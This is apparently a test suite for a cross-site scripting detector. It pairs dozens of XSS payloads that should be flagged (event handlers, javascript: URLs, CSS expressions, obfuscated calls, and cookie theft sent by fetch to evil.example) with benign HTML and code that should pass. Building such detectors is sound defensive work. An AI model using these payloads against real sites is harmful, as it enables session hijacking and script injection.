// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders are what is judged.
import { expect, test } from 'bun:test'
import { crossSiteScripting } from '../../../src/hooks/anomaly/html/index.ts'
import { readScript } from '../../../src/hooks/anomaly/html/javascript.ts'
import { tagsOf } from '../../../src/hooks/anomaly/html/tags.ts'

const score = (text: string, layers = 0): number =>
  crossSiteScripting({ text, lower: text.toLowerCase(), layers, place: 'body' })

const attacks: readonly [what: string, ...texts: string[]][] = [
  [
    'a script that gives a function another name',
    'k=9;k=eval;l=alert;k(l(9));//',
    "k='java'+'scr'+'ipt'+':x'",
    'eval(URL.slice(-9))',
    'with(document.a)alert(9)',
  ],
  [
    'a name that no filter finds',
    'document["cookie"]',
    'self["\\x24"]',
    'document/*a*/./*b*/cookie',
  ],
  ['an end tag with attributes', '</b style="width:9px">', '</p onclick=a>'],
  [
    'what a filter or a table changed',
    '<scrscriptipt>go(9)</scrscriptipt>',
    '<scr\\0ipt>go(9)</scr\\0ipt>',
    '"<embed src=""http://a.example/a.swf"">"',
  ],
  [
    'an address that nobody reads',
    '<a href="http://1249763844/">a</a>',
    '<a href="http://0x42.0x66.7.147/">a</a>',
  ],
  ['a form that is sent elsewhere', '<button formaction=//a.example>a</button>'],
  [
    'a style that ends its declarations',
    '<div style="font-family:a}color:red">',
    '<p style="background:url(\'a[b];color:red;/*\')">',
    '<p style="background:url(a.svg)">',
  ],
  [
    'a script element',
    '<script>go()</script>',
    '<SCRIPT/x src=//evil.example/a.js>',
    '<svg:script>1</svg:script>',
    '<scr<script>ipt>steal()</script>',
    '"></script><b>',
    "<style></style\n<script\n>x='1'</script>",
  ],
  [
    'an event handler of a tag',
    '<img src=x onerror=run()>',
    '<b/onclick="x=1">',
    "<p\tOnMouseOver\n=\n'run()'>",
    '<video><source/onerror=run()//',
    '<img title="blah>" onload="run()">',
    '<a b=">" onfocus=run`1` autofocus>',
    '<svg\u0000 onload=run()>',
    '<x onsomethingnew=run(1)>',
    '<div title="<img src=y onerror=run()>">',
  ],
  [
    'an event handler behind the end of an attribute',
    '" onmouseover=alert(1) x="',
    "' onfocus='confirm(document.title)",
    'x onpointerenter=eval(name)//',
    '"autofocus/onfocus="prompt`1`',
  ],
  [
    'a URL that runs',
    '<a href="javascript:run()">x</a>',
    '<form action=JaVaScRiPt:run()>',
    '<iframe src="java\nscri\tpt:run()">',
    '<a href="vbscript:run(1)">',
    '<object data="data:text/html,<b>x</b>">',
    '<q cite="data:text/html;base64,PGI+">',
    'javascript:run(1)//',
    '[see here](javascript:run(1))',
    'https://x.example/?next=javascript:run(1)',
  ],
  [
    'styles that run',
    '<b style="width:expression(run())">',
    '<b style="x:exp/* */ression(run())">',
    '<b style="x:\\65 xpression(run())">',
    '<b style=\'behavior:url("a.htc")\'>',
    '<style>@import "//evil.example/a.css"</style>',
    '<style>a{background:url("javascript:run()")}</style>',
  ],
  [
    'an element that takes in what is foreign',
    '<iframe src="https://evil.example"></iframe>',
    '<embed/src=//evil.example/a.swf>',
    '<base href="//evil.example/">',
    '<link rel=import href=x.html>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<iframe srcdoc="x">',
    '<svg><set attributeName=href to=x>',
    '<math><a xlink:href="//evil.example">x</a>',
    '<img src="//evil.example/?',
  ],
  [
    'the end of a string of a script',
    "';alert(1)//",
    '"-confirm`1`-"',
    '\\");prompt(2);//',
    "'+document.cookie+'",
    '"};document.location="//evil.example',
    '*/eval(name)/*',
    '1;alert(1)',
  ],
  [
    'a script by itself that hides what it calls',
    "self['al'+'ert'](1)",
    'top[/al/.source+/ert/.source](1)',
    'al\\u0065rt(1)',
    '(confirm)(1)',
    'prompt?.(1)',
    '[7].map(alert)',
    '[].sort.call`${alert}7`',
    'onerror=eval;throw"=1"',
    '[].at.constructor.constructor("run()")()',
    'eval(String.fromCharCode(114,117,110))',
    'fetch("//evil.example/?"+document.cookie)',
    '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]',
    'alert(1)',
    'prompt(document.domain);//',
    'eval(name)',
    'location=name',
    "fetch('//evil.example', { body: document.cookie })",
    'a=alert;a(1)',
    "$.getScript('//evil.example/a.js')",
    'confirm.call(null, 1)',
    "self[atob('YWxlcnQ=')](1)",
  ],
  ['UTF-7', '+ADw-script+AD4-run()+ADw-/script+AD4-'],
]

for (const [what, ...texts] of attacks)
  test(`${what} is found`, () => {
    expect(texts.filter((text) => score(text) < 0.5)).toEqual([])
  })

const honest: readonly [what: string, ...texts: string[]][] = [
  [
    'styles and addresses of pages',
    '<div style="background: url(/img/logo.png) no-repeat; margin: 0">',
    '<h1 style="background-image: url(/img/logo.svg)">a</h1>',
    '<div style="{{ style }}">',
    '<a href="http://192.0.2.44/a">a</a>',
    'const log = console.log; log(4)',
  ],
  [
    'HTML that runs nothing',
    '<p>Hello <strong>team</strong>,<br>all is <em class="x">fine</em>.</p>',
    '<a href="https://example.com/?a=1&b=2">x</a> <img src="/logo.png" alt="JavaScript: The Book">',
    '<table style="width: 50%; background: url(/a.png)"><tr><td colspan=2>Total = 5</td></tr></table>',
    '<a href="javascript:void(0)">nothing</a>',
    '<svg viewBox="0 0 8 8"><path d="M0 0h8"/><use xlink:href="#a"/></svg>',
    '<meta charset="utf-8"><link rel="icon" href="/favicon.ico">',
    '<meta http-equiv="refresh" content="0; url=next.html">',
    '<object data>, <embed>',
  ],
  [
    'XML',
    '<?xml version="1.0"?><calls><call id="1" online="true" onhold="false">+91 1</call></calls>',
    '<?xml-stylesheet type="text/xsl" href="style.xsl"?>',
  ],
  [
    'comparison, a type and an address',
    'a < b && c > d; 1 <2 and 3> 2; I <3 "pizza"',
    'Map<string, number>, Promise<void>, `options` <Object> and <Function>',
    '"Ng\'ang\'a" <a@example.com>',
  ],
  [
    'code of a component',
    '<button onClick={() => setCount(count + 1)}>{count}</button>',
    '<input value={name} onChange={rename} onBlur={handleBlur} />',
    '<button @click="save" :disabled="busy">Save</button>',
    '<button on:click={save}>Save</button>',
  ],
  [
    'code',
    "window.onload = function () { document.title = 'x' }",
    'port.onmessage = ({ data }) => console.log(data)',
    "alert('Saved'); if (confirm('Delete?')) remove(id)",
    'const id = n.toString(36); const once = require("events").once',
    "try { f() } catch (e) { alert(e.message) } el.innerHTML = 'x'",
    'cors({ origin: function (origin, done) { done(null, true) } })',
  ],
  [
    'prose about HTML',
    'Add the <script> tag before </body>, please.',
    'The `onclick` attribute and the `<script>` element are blocked here.',
    'Use ``<script>.cmake`` for that.',
    'Write this in your page:\n```html\n<script src="https://cdn.example.com/a.js"></script>\n```\nand you are done.',
    'JavaScript: the language of the web (since 1995).',
    'The policy - "no calls" - is old; alert (see above) was sent.',
  ],
]

for (const [what, ...texts] of honest)
  test(`${what} passes`, () => {
    expect(texts.filter((text) => score(text) >= 0.5)).toEqual([])
  })

test('escaped HTML passes where a page shows code, and is found where it is all there is', () => {
  expect(score('<p>Use <code><script src="a.js"></script></code>.</p>', 1)).toBe(0)
  expect(score('<p>Use <code><script src="a.js"></script></code>.</p>')).toBeGreaterThan(0.5)
  expect(score('<script src="a.js"></script>', 1)).toBeGreaterThan(0.5)
  expect(score('<', 1)).toBeGreaterThan(0.5)
  expect(score('<')).toBe(0)
})

test('tagsOf() reads tags as browsers do', () => {
  const read = (html: string) =>
    [...tagsOf(html)].map(({ name, attributes }) => [
      name,
      ...attributes.map((attribute) => `${attribute.name}=${attribute.value}`),
    ])
  expect(read('<a/b="1>2"c=\'3\' d = 4/e>')).toEqual([['a', 'b=1>2', 'c=3', 'd=4/e']])
  expect(read('<im\u0001g src=x')).toEqual([['img', 'src=x']])
  expect(read('1 < 2 <3 <é')).toEqual([])
  expect(read('<a title="<x y>">')).toEqual([
    ['a', 'title=<x y>'],
    ['x', 'y='],
  ])
  expect(read('<p class="a" title=\'b\'><a href="https://c.example/?d=e">f</a></p>')).toEqual([])
})

test('readScript() reads different ways to say the same alike', () => {
  const ways = ["self['ale'+'rt'](1)", 'self . alert /* now */ (1)', 'self["\\x61lert"](1)']
  expect(ways.map((way) => readScript(way).code)).toEqual(ways.map(() => 'self.alert(1)'))
  expect(readScript('(0,eval)(x); f`y`').disguised).toEqual(['eval', 'f'])
})

const repeated = [
  '<',
  '<a ',
  '<a b="',
  '<a b=\'x" ',
  '<script>',
  '</script',
  '<style>/*"',
  '<b style="x:/*y*/',
  '<code>',
  '`',
  '``',
  '` a',
  '"',
  '\\"',
  '/*',
  'onload= ',
  'onload=(',
  'javascript:',
  "'a'+",
  '["a"]',
  'a`b`',
  '\\u0061',
  'location+',
  'src="x"+',
  'eval(',
  '<script>a',
  '<p title="a(b" c="d:e">',
  '<b style="a:/*b*/c">',
  '<a href="b" style="c:d;e:f" ',
  ')(',
  't\n:',
  '[]',
  '=',
]

for (const piece of repeated)
  test(`100 KB of ${JSON.stringify(piece)} are judged`, () => {
    expect(score(piece.repeat(102_400 / piece.length), 1)).toBeWithin(0, 1.01)
  })
